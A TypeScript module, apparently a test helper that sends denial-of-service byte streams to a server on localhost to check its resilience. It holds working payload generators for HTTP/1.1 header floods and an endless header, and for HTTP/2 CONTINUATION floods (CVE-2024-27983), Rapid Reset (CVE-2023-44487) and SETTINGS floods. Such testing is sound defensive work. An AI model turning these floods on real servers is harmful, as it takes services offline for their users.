import { once } from "node:events";
import * as net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME = { headers: 1, reset: 3, settings: 4, continuation: 9 } as const;
const END_STREAM_AND_HEADERS = 0x5;
const CANCEL = 8;

/** How long an attack may take, and what the server says to its end is waited for. */
const LIMIT_MS = 20_000;
const LOOK_MS = 1_000;

/** What became of an attack on a raw connection. */
export interface Ending {
  /** The first line of what the server said. */
  readonly said: string;
  /** Whether the server ended the connection. */
  readonly cut: boolean;
}

/**
 * Sends bytes as fast as they are taken, until the server ends the connection or there are no more;
 * then looks for a moment what it says.
 */
export async function attack(url: string, chunks: Iterable<Uint8Array>): Promise<Ending> {
  const { port } = new URL(url);
  const socket = net.connect(Number(port), "127.0.0.1");
  const received: Buffer[] = [];
  // A reset is an ending like any other: "close" follows.
  socket.on("error", () => undefined);
  socket.on("data", (bytes: Buffer) => {
    if (received.length < 100) received.push(bytes);
  });
  const ended = Promise.withResolvers<"cut">();
  socket.once("close", () => ended.resolve("cut"));
  const late = Promise.withResolvers<"late">();
  const timer = setTimeout(() => late.resolve("late"), LIMIT_MS);
  const open = once(socket, "connect").then(() => "open" as const);
  let seen: string = await Promise.race([open, ended.promise, late.promise]);
  for (const chunk of chunks) {
    if (seen !== "open") break;
    if (socket.write(chunk)) continue;
    const drained = new Promise<"open">((resolve) => socket.once("drain", () => resolve("open")));
    seen = await Promise.race([drained, ended.promise, late.promise]);
  }
  if (seen === "open") seen = await Promise.race([ended.promise, sleep(LOOK_MS, "quiet")]);
  clearTimeout(timer);
  socket.destroy();
  const bytes = Buffer.concat(received);
  return {
    said: bytes.toString("latin1").split("\r\n", 1)[0] ?? "",
    cut: seen === "cut",
  };
}

/** HTTP/1.1 with so many header lines. */
export function* headerLines(count: number): Generator<Uint8Array> {
  yield Buffer.from("GET /healthz HTTP/1.1\r\nHost: x\r\n");
  const lines = Buffer.from("a: b\r\n".repeat(1_000));
  for (let sent = 0; sent < count; sent += 1_000) yield lines;
  yield Buffer.from("\r\n");
}

/** HTTP/1.1 with one header line that does not end. */
export function* endlessHeader(bytes: number): Generator<Uint8Array> {
  yield Buffer.from("GET /healthz HTTP/1.1\r\nHost: x\r\nx: ");
  for (let sent = 0; sent < bytes; sent += 65_536) yield Buffer.alloc(65_536, "y");
}

/** HTTP/2 with headers that go on in continuations (CVE-2024-27983 and its like). */
export function* continuations(count: number): Generator<Uint8Array> {
  yield PREFACE;
  yield frame(FRAME.settings, 0, 0);
  yield frame(FRAME.headers, 0, 1, literalHeader("a", "b"));
  const many = Buffer.concat(
    Array.from({ length: 100 }, () => frame(FRAME.continuation, 0, 1, literalHeader("a", "b"))),
  );
  for (let sent = 0; sent < count; sent += 100) yield many;
}

/** HTTP/2 with streams that are cancelled as soon as they are opened (CVE-2023-44487). */
export function* rapidResets(count: number): Generator<Uint8Array> {
  yield PREFACE;
  yield frame(FRAME.settings, 0, 0);
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  // GET http /healthz, authority x: three indexed fields and two literal ones.
  const request = Buffer.concat([
    Buffer.from([0x82, 0x86]),
    literalHeader(":path", "/healthz"),
    literalHeader(":authority", "x"),
  ]);
  for (let sent = 0; sent < count; sent += 1) {
    const stream = 2 * sent + 1;
    yield Buffer.concat([
      frame(FRAME.headers, END_STREAM_AND_HEADERS, stream, request),
      frame(FRAME.reset, 0, stream, code),
    ]);
  }
}

/** HTTP/2 with settings over and over, each of which wants an acknowledgement. */
export function* settingsFlood(count: number): Generator<Uint8Array> {
  yield PREFACE;
  const many = Buffer.concat(Array.from({ length: 100 }, () => frame(FRAME.settings, 0, 0)));
  for (let sent = 0; sent < count; sent += 100) yield many;
}

function frame(type: number, flags: number, stream: number, payload?: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload?.length ?? 0, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return payload === undefined ? head : Buffer.concat([head, payload]);
}

/** HPACK: a literal field that is not indexed, name and value as they are. */
function literalHeader(name: string, value: string): Buffer {
  const text = (one: string) => Buffer.concat([Buffer.from([one.length]), Buffer.from(one)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}
